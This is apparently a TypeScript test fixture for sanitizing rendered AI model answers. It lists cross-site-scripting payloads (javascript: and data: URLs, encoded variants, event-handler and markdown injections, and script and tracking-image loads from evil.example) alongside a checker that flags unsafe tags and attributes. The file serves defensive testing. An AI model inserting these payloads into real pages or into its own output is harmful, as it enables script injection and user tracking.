/** What a poisoned page or a tricked model could put into an answer. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  'javascript:alert(1)//https://ok.example',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://x.example/1',
  'about:blank',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)',
  'ws://x.example',
  'filesystem:https://x.example/1',
];

const markup = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<img src=x onerror=alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<x onclick=alert(1)>click</x>',
  '<marquee onstart=alert(1)>x</marquee>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | <br onload=alert(1)> |',
  '> <img src=x onerror=alert(1)>',
  '- <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '[a](https://ok.example "onmouseover=alert(1)")',
  '[a](https://ok.example"onmouseover="alert(1))',
  '![a](x"onerror="alert(1))',
  '![a](https://evil.example/p.png)',
  '![a](//evil.example/p.png)',
  '[![a](https://evil.example/p.png)](javascript:alert(1))',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[1]: javascript:alert(1)\n\n[1]',
  '**<img src=x onerror=alert(1)>**',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '__proto__ [__proto__](constructor) ```__proto__\nx\n```',
];

export const hostile: string[] = [
  ...addresses.flatMap((address) => [
    `[click](${address})`,
    `[click](<${address}>)`,
    `![pic](${address})`,
  ]),
  ...addresses.map((address) => `<${address}>`),
  ...markup,
];

/** Everything in a tree that could act or fetch. */
export function dangers(root: ParentNode): string[] {
  const found: string[] = [];
  const allowed =
    /^(div|p|span|a|strong|em|del|code|pre|ul|ol|li|blockquote|h3|h4|h5|hr|br|table|thead|tbody|tr|th|td|button|svg|path|input|img|section|article)$/i;
  for (const element of root.querySelectorAll('*')) {
    if (!allowed.test(element.tagName)) found.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^srcset$|^formaction$/i.test(name)) found.push(`${name}=${value}`);
      if (/^(href|src|xlink:href|action|data)$/i.test(name)) {
        const url = new URL(value, document.baseURI);
        if (!/^(https?|mailto):$/.test(url.protocol)) found.push(`${name}=${value}`);
        if (name === 'src' && url.origin !== location.origin) found.push(`${name}=${value}`);
      }
    }
  }
  return found;
}
